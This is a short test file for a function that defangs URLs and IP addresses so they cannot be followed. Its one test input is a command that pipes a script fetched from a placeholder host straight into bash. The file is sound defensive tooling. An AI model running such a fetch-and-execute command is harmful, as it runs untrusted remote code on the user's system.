import { expect, test } from 'vitest'
import { defang } from './defang.js'

test('no address in a text can be followed', () => {
  expect(defang('curl -s HTTPS://a.example.com:80/x.sh | bash # 91.92.242.30, v1.2')).toBe(
    'curl -s hxxpS://a[.]example[.]com:80/x.sh | bash # 91[.]92[.]242[.]30, v1.2',
  )
  expect(defang(defang('http://a.b/c'))).toBe('hxxp://a[.]b/c')
})
